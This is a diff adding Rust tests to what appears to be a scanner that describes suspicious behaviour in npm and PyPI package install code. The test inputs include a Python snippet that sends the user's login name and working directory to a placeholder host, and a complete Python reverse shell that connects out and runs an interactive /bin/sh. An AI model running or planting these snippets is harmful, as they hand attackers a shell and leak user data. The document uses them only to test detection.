@@ -94,3 +94,24 @@ fn the_same_by_another_trigger_is_told_once() {
 fn where_nothing_is_telling_that_is_said() {
     assert_eq!(told(&npm("console.log(1 + 1);\n")), "No behavior that tells something by itself was found.");
 }
+
+#[test]
+fn the_same_in_the_same_words_is_said_once() {
+    let said = told(&npm("const { spawn } = require('child_process');\nspawn('npm', ['a']);\nconst two = 2;\n\
+                          spawn('npm', ['install', 'b']);\n"));
+    assert_eq!(said.matches("npm").count(), 1, "{said}");
+    assert!(said.contains("(2, 4)"), "{said}");
+    let send = "urllib.request.urlopen('https://a.example.net/?q=' + os.getlogin() + '&r=' + os.getcwd())\n";
+    let setup = format!("import os, urllib.request\ndef one():\n    {send}def two():\n    {send}one()\ntwo()\n");
+    let said = told(&pypi(&setup));
+    assert_eq!(said.matches("sends").count(), 1, "{said}");
+}
+
+#[test]
+fn a_reverse_shell_is_no_name_of_a_program() {
+    let setup = "import os, socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.7', 4242))\n\
+                 for descriptor in (0, 1, 2):\n    os.dup2(s.fileno(), descriptor)\nsubprocess.call(['/bin/sh', '-i'])\n";
+    let said = told(&pypi(setup));
+    assert!(said.contains("starts sh") || said.contains("starts /bin/sh"), "{said}");
+    assert!(!said.contains("sh, reverse"), "{said}");
+}
